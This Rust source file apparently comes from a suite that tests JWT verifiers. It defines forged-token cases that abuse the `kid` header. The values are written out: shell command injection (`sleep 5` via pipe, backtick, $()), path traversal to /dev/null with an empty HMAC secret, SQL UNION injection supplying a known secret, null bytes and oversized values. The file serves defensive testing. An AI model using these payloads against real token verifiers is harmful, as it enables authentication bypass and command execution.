//! Lies in `kid` (RFC 7515 section 4.1.4): a name of a key, and nothing else.

use serde_json::json;

use crate::defects::{Argument, Attacker, Defect, Effect, Gains, Inject};
use crate::jose::{Alg, Secret};
use crate::mint::{Draft, MintContext, Signing};
use crate::spec::requirements::{alg, key, signature};

/// Every entry of this file.
pub(super) static ALL: &[Defect] = &[
    Defect {
        id: "header.kid-unknown",
        summary: "signs with an unpublished key and names it",
        inject: &[
            Inject::Header(|draft, cx| draft.header.set("kid", cx.attacker().name)),
            Inject::Key(attacker_signs),
        ],
        evidence: &["CockroachDB, key id mismatch", "OIDCC-10.1.1"],
        docs: "A verifier that finds no key fetches the JWK Set once more, and then refuses.",
        ..NO_SUCH_KEY
    },
    Defect {
        id: "header.kid-missing-ambiguous",
        summary: "names no key, publishes two of the kind, and signs with a third",
        breaks: &[&signature::VALID],
        algorithms: &[Alg::RS256],
        inject: &[
            Inject::Header(|draft, _| draft.header.remove("kid")),
            Inject::Key(attacker_signs),
        ],
        docs: "Trying every published key is lawful. None fits.",
        ..NO_SUCH_KEY
    },
    Defect {
        id: "header.kid-url",
        summary: "signs with an unpublished key and names it by a URL",
        inject: &[
            Inject::Header(|draft, cx| {
                draft.header.set("kid", format!("{}/kid/{}", cx.sound.canary, cx.sound.jti));
            }),
            Inject::Key(attacker_signs),
        ],
        evidence: &["PrOfESSOS key confusion 6"],
        docs: "The URL leads to the canary, which serves the key. `kid` is no URL: nothing may be \
               fetched.",
        ..NO_SUCH_KEY
    },
    Defect {
        id: "header.kid-shell",
        summary: "signs with an unpublished key whose name is a shell command",
        argument: Argument::OneOf(&["pipe", "backtick", "dollar"]),
        inject: &[
            Inject::Header(|draft, cx| {
                let name = cx.signer().name;
                let kid = match cx.argument.text() {
                    "backtick" => format!("{name}`sleep 5`"),
                    "dollar" => format!("{name}$(sleep 5)"),
                    _ => format!("{name}|sleep 5"),
                };
                draft.header.set("kid", kid);
            }),
            Inject::Key(attacker_signs),
        ],
        evidence: &["jwt_tool playbook"],
        docs: "An answer that takes five seconds longer than others has run it.",
        ..NO_SUCH_KEY
    },
    Defect {
        id: "header.kid-path-traversal",
        summary: "names an empty file as the key and signs with HMAC and an empty secret",
        breaks: &[&alg::AMONG_DECLARED, &key::BELONGS_TO_ISSUER],
        inject: &[
            Inject::Header(|draft, _| {
                draft.header.set("alg", "HS256");
                draft.header.set("kid", "../../../../../../../../dev/null");
            }),
            Inject::Key(|draft, _| {
                draft.sign_with(Signing::Hmac(Secret(Vec::new()), Alg::HS256));
            }),
        ],
        evidence: &["PortSwigger: JWT bypass via kid header path traversal", "jwt_tool playbook"],
        docs: "Where `kid` becomes a path, the attacker knows what the file holds: nothing.",
        ..NO_SUCH_KEY
    },
    Defect {
        id: "header.kid-sqli",
        summary: "names a key by SQL that selects a secret, and signs with HMAC and that secret",
        breaks: &[&alg::AMONG_DECLARED, &key::BELONGS_TO_ISSUER],
        inject: &[
            Inject::Header(|draft, _| {
                draft.header.set("alg", "HS256");
                draft.header.set("kid", "x' UNION SELECT 'changeme' -- ");
            }),
            Inject::Key(|draft, _| {
                draft.sign_with(Signing::Hmac(Secret(b"changeme".to_vec()), Alg::HS256));
            }),
        ],
        evidence: &["WebGoat JWT lesson", "jwt_tool playbook"],
        docs: "Where `kid` is pasted into a query, the attacker brings the key. A server error is \
               no refusal either.",
        ..NO_SUCH_KEY
    },
    Defect {
        id: "header.kid-object",
        summary: "sets `kid` to something that is no string",
        breaks: &[&key::KID_STRING],
        attacker: Attacker::AnyToken,
        gains: Gains::Privilege,
        argument: Argument::OneOf(&["jwk", "array", "number", "null", "true"]),
        inject: &[Inject::Header(|draft, cx| {
            let kid = match cx.argument.text() {
                "array" => json!([cx.signer().name]),
                "number" => json!(1),
                "null" => json!(null),
                "true" => json!(true),
                _ => cx.signer().jwk(),
            };
            draft.header.set("kid", kid);
        })],
        evidence: &["PrOfESSOS key confusion"],
        docs: "The signature is good. The object is the published JWK itself, for verifiers that \
               take what they get.",
        ..Defect::PLAIN
    },
    Defect {
        id: "header.kid-other-key",
        summary: "names another published key than the one that signs",
        algorithms: &[Alg::RS256],
        gains: Gains::LoginAsAnyone,
        inject: &[Inject::Key(|draft, cx| {
            draft.sign_with(Signing::Key(cx.keys.second().clone(), Alg::RS256));
        })],
        docs: "Both keys are the issuer's and for the same algorithm. `kid` is a hint: a verifier \
               that tries every key may accept.",
        ..HINT
    },
    Defect {
        id: "header.kid-case",
        summary: "spells `kid` in upper case",
        gains: Gains::Denial,
        inject: &[Inject::Header(|draft, cx| {
            draft.header.set("kid", cx.signer().name.to_uppercase());
        })],
        docs: "`kid` is case-sensitive, so this names no published key; the signature is good.",
        ..HINT
    },
    Defect {
        id: "header.kid-whitespace",
        summary: "appends a space to `kid`",
        inject: &[Inject::Header(|draft, cx| {
            draft.header.set("kid", format!("{} ", cx.signer().name));
        })],
        docs: "Names no published key, unless somebody trims; the signature is good.",
        ..HINT
    },
    Defect {
        id: "header.kid-null-byte",
        summary: "appends a NUL and more to `kid`",
        gains: Gains::Denial,
        inject: &[Inject::Header(|draft, cx| {
            draft.header.set("kid", format!("{}\0.pem", cx.signer().name));
        })],
        docs: "Ends early where strings end at a NUL. The signature is good, and nothing may \
               crash.",
        ..HINT
    },
    Defect {
        id: "header.kid-64k",
        summary: "makes `kid` very long",
        gains: Gains::Denial,
        argument: Argument::Count { default: 65_536, range: 1..=1_048_576, unit: "bytes" },
        inject: &[Inject::Header(|draft, cx| {
            let length = usize::try_from(cx.argument.number()).unwrap_or_default();
            draft.header.set("kid", "k".repeat(length));
        })],
        docs: "Grows caches of keys by name, and logs. The signature is good.",
        ..HINT
    },
];

/// A forged token that names a key of which the issuer knows nothing.
const NO_SUCH_KEY: Defect = Defect {
    breaks: &[&key::BELONGS_TO_ISSUER],
    attacker: Attacker::Outsider,
    gains: Gains::LoginAsAnyone,
    ..Defect::PLAIN
};

/// A token signed by a published key that `kid` does not name.
const HINT: Defect = Defect {
    breaks: &[&key::KID_MATCHES],
    effect: Effect::Open,
    attacker: Attacker::Idp,
    gains: Gains::Interoperability,
    ..Defect::PLAIN
};

fn attacker_signs(draft: &mut Draft, cx: &MintContext<'_>) {
    draft.sign_with(Signing::Key(cx.attacker(), cx.sound.alg));
}
